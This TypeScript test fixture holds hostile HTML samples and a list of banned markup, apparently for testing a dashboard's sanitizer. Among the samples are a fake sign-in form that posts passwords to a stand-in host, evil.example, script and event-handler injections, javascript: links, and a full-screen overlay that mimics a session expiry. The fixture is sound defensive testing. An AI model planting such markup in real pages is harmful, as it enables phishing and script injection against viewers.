/** What an editor of a dashboard could write to fool or attack its viewers (issue D, item 3). */
export const HOSTILE_HTML: Readonly<Record<string, string>> = {
  style: '<style>body { display: none }</style><p>styled away</p>',
  overlay: '<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired</div>',
  fakeSignIn:
    '<form action="https://evil.example/steal" method="post"><input name="user"><input type="password" name="pw"><button>Sign in</button></form>',
  handlers:
    '<img src="x.png" onerror="window.pwned=1"><p onclick="window.pwned=2" onmouseover="window.pwned=3">hover</p>',
  jsLinks:
    '<a href="javascript:window.pwned=4">a</a> <a href="java\tscript:window.pwned=5">b</a> <a href="data:text/html,x">c</a>',
  frames: '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
  script: '<script>window.pwned = 6</script><svg onload="window.pwned=7"><circle r="1"></circle></svg>',
  head: '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
};

/** Markup none of the samples may leave in the page. */
export const BANNED_MARKUP: readonly (string | RegExp)[] = [
  '<style',
  '<form',
  '<input',
  '<button',
  '<script',
  '<iframe',
  '<object',
  '<embed',
  '<svg',
  '<meta',
  '<base',
  '<link',
  'onerror',
  'onclick',
  'onmouseover',
  'onload',
  'javascript',
  'data:text/html',
  'evil.example',
  /position\s*:\s*fixed/,
];
